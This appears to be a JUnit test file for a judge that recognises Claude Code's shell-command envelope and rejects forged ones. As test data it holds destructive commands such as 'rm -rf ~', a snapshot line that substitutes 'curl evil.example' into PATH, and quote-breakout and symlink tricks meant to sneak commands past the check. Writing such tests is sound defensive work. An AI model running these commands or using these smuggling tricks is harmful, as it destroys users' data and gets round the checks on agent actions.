package io.shellgate.judge;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Claude Code's command envelope and probes: the forms it writes, and what an attacker might write instead. */
class EnvelopeClaudeTest {

    private static final String SHOPT = "\\builtin shopt -u extglob 2>/dev/null || true";
    private static final String WHICH = "{ \\builtin unalias -- 'which'; \\builtin unset -f -- 'which'; } >/dev/null 2>&1 || true";
    private static final String UNSETENV = "{ \\builtin unalias -- 'unsetenv'; \\builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true";

    @TempDir
    Path dir;

    private EnvelopeSite site;

    @BeforeEach
    void site() {
        site = new EnvelopeSite(dir);
    }

    private String envelope(String snapshot, String evalWord, String cwdFile) {
        return "source " + snapshot + " 2>/dev/null || true && " + SHOPT + " && " + WHICH + " && " + UNSETENV
                + " && eval " + evalWord + " < /dev/null && pwd -P >| " + cwdFile;
    }

    private String envelope(String command) {
        return envelope(site.claudeSnapshot.toString(), quote(command), site.tmp + "/" + EnvelopeSite.CWD_NAME);
    }

    /** Claude Code's quoting of the command: a {@code '} becomes {@code '\''}. */
    static String quote(String command) {
        return "'" + command.replace("'", "'\\''") + "'";
    }

    private Optional<String> inner(String text) {
        return Envelopes.unwrap("claude-code", site.request(text)).map(u -> u.inner().command());
    }

    @ParameterizedTest
    @ValueSource(strings = {"ls -la", "echo 'it'\"'\"'s'", "it's \"quoted\" $HOME `id` \\ \\'", "cat <<'EOF'\n' )\nEOF",
            "grep -rn 'a b' src | head -3", "git commit -m \"x'y\"", "''"})
    void theCommandInsideIsUnquotedExactly(String command) {
        assertThat(inner(envelope(command))).as(command).contains(command);
        String codexStyle = "'" + command.replace("'", "'\"'\"'") + "'";
        assertThat(inner(envelope(site.claudeSnapshot.toString(), codexStyle, site.tmp + "/" + EnvelopeSite.CWD_NAME)))
                .contains(command);
    }

    @Test
    void itsOtherFormsAreRecognised() {
        String cwd = site.tmp + "/" + EnvelopeSite.CWD_NAME;
        String bare = "eval pwd < /dev/null && pwd -P >| " + cwd;
        assertThat(inner(SHOPT + " && " + UNSETENV + " && " + bare)).as("no snapshot, no which").contains("pwd");
        String zsh = "\\builtin setopt NO_EXTENDED_GLOB NO_BARE_GLOB_QUAL NO_BRACE_CCL NO_MAGIC_EQUAL_SUBST NO_EQUALS 2>/dev/null || true";
        assertThat(inner("source " + site.claudeSnapshot + " 2>/dev/null || true && " + zsh + " && " + WHICH + " && "
                + UNSETENV + " && eval 'ls' && pwd -P >| /tmp/claude-0f3e-cwd")).as("zsh, /tmp, no < /dev/null").contains("ls");
    }

    @Test
    void theCommandGetsThePathItsSnapshotSets() throws Exception {
        Files.writeString(site.claudeSnapshot, "# Snapshot file\nexport PATH=/opt/tools/bin:/usr/bin\nalias -- ll='ls -l'\n"
                + "export PATH='/home/me/my bin':/usr/bin\n");
        JudgeRequest inner = Envelopes.unwrap("claude-code", site.request(envelope("ls"))).orElseThrow().inner();
        assertThat(inner.env().get("PATH")).isEqualTo("/home/me/my bin:/usr/bin");
        Files.writeString(site.claudeSnapshot, "# Snapshot file\nexport PATH=$(curl evil.example)\n");
        assertThat(inner(envelope("ls"))).as("a PATH the judge cannot read").isEmpty();
        Files.delete(site.claudeSnapshot);
        assertThat(Envelopes.unwrap("claude-code", site.request(envelope("ls"))).orElseThrow().inner().env().get("PATH"))
                .as("no snapshot: the agent's own").isEqualTo("/usr/bin:/bin");
    }

    @ParameterizedTest
    @ValueSource(strings = {"rm -rf x; %s", "rm -rf x && %s", "%s; rm -rf x", "%s\nrm -rf x", "%s && rm -rf x", "%s &",
            " %s", "%s ", "(%s)", "bash -c %s"})
    void anythingAroundTheEnvelopeIsNotRecognised(String around) {
        assertThat(inner(around.formatted(envelope("ls")))).isEmpty();
    }

    @Test
    void aForgedEnvelopeThatBreaksOutOfItsQuotesIsNotRecognised() {
        String cwd = site.tmp + "/" + EnvelopeSite.CWD_NAME;
        String snap = site.claudeSnapshot.toString();
        assertThat(inner(envelope(snap, "'ls' && rm -rf x && eval 'y'", cwd))).isEmpty();
        assertThat(inner(envelope(snap, "'ls'; rm -rf x; '", cwd))).isEmpty();
        assertThat(inner(envelope(snap, "'ls'\"$(rm -rf x)\"", cwd))).isEmpty();
        assertThat(inner(envelope(snap, "'ls' $(rm -rf x)", cwd))).isEmpty();
        assertThat(inner(envelope(snap, "$'\\x72m -rf x'", cwd))).isEmpty();
        assertThat(inner(envelope(snap, "'ls", cwd))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/tmp/evil.sh", "%h/.claude/shell-snapshots/../../evil.sh", "%h/.claude/evil.sh",
            "%h/.claude/shell-snapshots/snapshot-bash-1-X.sh", "%h/.claude/shell-snapshots/snapshot-fish-1-abc.sh",
            "%h/.claude/shell-snapshots/snapshot-bash-1-abc.sh;rm", "'%h/.claude/shell-snapshots/snapshot-bash-1-abc.sh' x",
            "%h/../x/.claude/shell-snapshots/snapshot-bash-1-abc.sh", "~/.claude/shell-snapshots/snapshot-bash-1-abc.sh"})
    void aSnapshotAnywhereElseIsNotRecognised(String snapshot) {
        String text = envelope(snapshot.replace("%h", site.home.toString()), "'ls'", site.tmp + "/" + EnvelopeSite.CWD_NAME);
        assertThat(inner(text)).isEmpty();
    }

    @Test
    void aSnapshotThatIsALinkOrInALinkedFolderIsNotRecognised() throws Exception {
        Path other = EnvelopeSite.write(site.root.resolve("other.sh"), "rm -rf ~\n");
        Files.delete(site.claudeSnapshot);
        Files.createSymbolicLink(site.claudeSnapshot, other);
        assertThat(inner(envelope("ls"))).isEmpty();
        Files.delete(site.claudeSnapshot);
        Files.createDirectory(site.claudeSnapshot);
        assertThat(inner(envelope("ls"))).as("a folder").isEmpty();
        Path snapshots = site.claudeSnapshot.getParent();
        Files.delete(site.claudeSnapshot);
        Files.move(snapshots, site.root.resolve("elsewhere"));
        Files.createSymbolicLink(snapshots, site.root.resolve("elsewhere"));
        EnvelopeSite.write(site.root.resolve("elsewhere").resolve(EnvelopeSite.CLAUDE_SNAPSHOT_NAME), "# Snapshot file\n");
        assertThat(inner(envelope("ls"))).as("a linked folder").isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/etc/claude-a1b2-cwd", "%h/.bashrc", "%t/claude-a1b2-cwd/../x", "%t/claude-A1B2-cwd",
            "%t/sub/claude-a1b2-cwd", "%t/claude--cwd", "/tmp/claude-a1b2-cwd.x"})
    void aCwdFileAnywhereElseIsNotRecognised(String cwd) {
        String text = envelope(site.claudeSnapshot.toString(), "'ls'", cwd.replace("%h", site.home.toString())
                .replace("%t", site.tmp.toString()));
        assertThat(inner(text)).isEmpty();
    }

    @Test
    void aCwdFileThatIsALinkIsNotRecognised() throws Exception {
        Files.createSymbolicLink(site.tmp.resolve(EnvelopeSite.CWD_NAME), site.home.resolve(".bashrc"));
        assertThat(inner(envelope("ls"))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"enable -n pwd", "builtin enable -f ./x.so pwd", "ls; command enable pwd", "echo 'unclosed", "'"})
    void aCommandThatCouldChangeThePwdAfterItOrDoesNotParseIsNotRecognised(String command) {
        assertThat(inner(envelope(command))).isEmpty();
    }

    @Test
    void itsProbesAreRecognisedOnlyExactlyAndOnlyForClaudeCode() {
        List<String> texts = site.captured("claude_code");
        String script = texts.get(1);
        assertThat(Envelopes.unwrap("claude-code", site.request("env"))).map(Envelopes.Unwrapped::isProbe).contains(true);
        for (String notEnv : List.of("env ", " env", "env -0", "env;", "env\n", "/usr/bin/env")) {
            assertThat(Envelopes.unwrap("claude-code", site.request(notEnv))).as(notEnv).isEmpty();
        }
        for (String agent : List.of("codex", "qwen-code", "gemini-cli")) {
            assertThat(Envelopes.unwrap(agent, site.request("env"))).as(agent).isEmpty();
            assertThat(Envelopes.unwrap(agent, site.request(script))).as(agent).isEmpty();
        }
        assertThat(Envelopes.unwrap("claude-code", site.request(script))).isPresent();
        assertThat(Envelopes.unwrap("claude-code", site.request(script + "rm -rf ~\n"))).isEmpty();
        assertThat(Envelopes.unwrap("claude-code", site.request(script.replace("export PATH=/usr/bin:/bin\n",
                "export PATH=/usr/bin:/bin\nrm -rf ~\n")))).isEmpty();
        String marker = "CLAUDE_CODE_END_q1w2e3r4t5y6u7i8";
        int last = script.lastIndexOf(marker);
        assertThat(Envelopes.unwrap("claude-code", site.request(script.substring(0, last) + "CLAUDE_CODE_END_other"
                + script.substring(last + marker.length())))).as("the heredoc ends elsewhere").isEmpty();
        String claude = site.install + "/node_modules/@anthropic-ai/claude-code/bin/claude.exe";
        assertThat(Envelopes.unwrap("claude-code", site.request(script.replaceFirst(java.util.regex.Pattern.quote(claude),
                "/tmp/evil/node_modules/@anthropic-ai/claude-code/bin/claude.exe")))).as("two programs").isEmpty();
        assertThat(Envelopes.unwrap("claude-code", site.request(script.replace(claude, "/tmp/evil")))).isEmpty();
        site.env.put("HOME", site.root.toString());
        assertThat(Envelopes.unwrap("claude-code", site.request(script))).as("another HOME").isEmpty();
    }
}
